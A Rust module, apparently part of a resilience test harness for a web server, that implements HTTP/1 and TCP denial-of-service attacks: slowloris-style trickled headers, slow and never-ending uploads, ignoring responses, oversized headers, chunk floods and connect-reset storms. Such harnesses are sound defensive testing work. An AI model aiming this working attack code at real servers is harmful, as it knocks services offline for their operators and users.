//! Attacks with bytes and with HTTP/1.

use std::sync::Arc;
use std::time::Duration;

use super::connections::{Crowd, Reading};

const GET: &[u8] = b"GET / HTTP/1.1\r\nhost: web\r\n\r\n";
const GET_LARGE: &[u8] = b"GET /large HTTP/1.1\r\nhost: web\r\n\r\n";
/// What a body or a header goes on with, and how often.
const TRICKLE: Duration = Duration::from_secs(1);
/// The same of an upload.
const UPLOAD_TRICKLE: Duration = Duration::from_millis(50);
const UPLOAD_PIECE: usize = 4096;
/// Chunks of one byte that are sent in one piece.
const CHUNKS_AT_ONCE: usize = 2048;
/// Headers of a request beside Host; with it, as many as may be.
const HEADERS: usize = 990;

pub(super) async fn idle(crowd: Arc<Crowd>) {
    let Some(mut open) = crowd.connect(Reading::Willing).await else {
        return;
    };
    if open.send(GET).await.is_ok() {
        open.until_end().await;
    }
}

pub(super) async fn silent(crowd: Arc<Crowd>) {
    loop {
        if let Some(mut open) = crowd.connect(Reading::Willing).await {
            open.until_end().await;
        }
    }
}

pub(super) async fn no_read(crowd: Arc<Crowd>) {
    unread(crowd, GET_LARGE).await;
}

pub(super) async fn tcp_no_read(crowd: Arc<Crowd>) {
    unread(crowd, b"").await;
}

pub(super) async fn websocket_no_read(crowd: Arc<Crowd>) {
    let upgrade = b"GET /websocket HTTP/1.1\r\nhost: web\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
        sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    unread(crowd, upgrade).await;
}

async fn unread(crowd: Arc<Crowd>, request: &[u8]) {
    loop {
        if let Some(mut open) = crowd.connect(Reading::Refused).await
            && open.send(request).await.is_ok()
        {
            open.until_reset().await;
        }
    }
}

pub(super) async fn slow_headers(crowd: Arc<Crowd>) {
    loop {
        let Some(mut open) = crowd.connect(Reading::Willing).await else {
            continue;
        };
        let begin: &[u8] = b"GET / HTTP/1.1\r\nhost: web\r\nx-slow: ";
        let mut sent = open.send(begin).await;
        while sent.is_ok() {
            tokio::time::sleep(TRICKLE).await;
            sent = open.send(b"x").await;
        }
    }
}

pub(super) async fn slow_bodies(crowd: Arc<Crowd>) {
    let piece = vec![b'x'; UPLOAD_PIECE];
    loop {
        let Some(mut open) = crowd.connect(Reading::Willing).await else {
            continue;
        };
        let begin: &[u8] = b"POST /unread HTTP/1.1\r\nhost: web\r\ncontent-length: 1000000000\r\n\r\n";
        let mut sent = open.send(begin).await;
        while sent.is_ok() {
            tokio::time::sleep(UPLOAD_TRICKLE).await;
            sent = open.send_some(&piece).await;
        }
    }
}

pub(super) async fn large_headers(crowd: Arc<Crowd>) {
    let mut request = b"GET / HTTP/1.1\r\nhost: web\r\n".to_vec();
    for number in 0..HEADERS {
        request.extend_from_slice(format!("x-{number:03}: {}\r\n", "x".repeat(50)).as_bytes());
    }
    request.extend_from_slice(b"\r\n");
    loop {
        let Some(mut open) = crowd.connect(Reading::Willing).await else {
            continue;
        };
        while open.send(&request).await.is_ok() && open.read_some().await.is_ok() {}
    }
}

pub(super) async fn chunk_flood(crowd: Arc<Crowd>) {
    let chunks = b"1\r\nx\r\n".repeat(CHUNKS_AT_ONCE);
    loop {
        let Some(mut open) = crowd.connect(Reading::Willing).await else {
            continue;
        };
        let begin: &[u8] = b"POST /sink HTTP/1.1\r\nhost: web\r\ntransfer-encoding: chunked\r\n\r\n";
        let mut sent = open.send(begin).await;
        while sent.is_ok() {
            sent = open.send(&chunks).await;
        }
    }
}

pub(super) async fn connect_close(crowd: Arc<Crowd>) {
    loop {
        if let Some(open) = crowd.connect(Reading::Willing).await {
            // Closing resets the connection, so that no port waits for late segments.
            let _ = socket2::SockRef::from(&open.stream).set_linger(Some(Duration::ZERO));
        }
    }
}
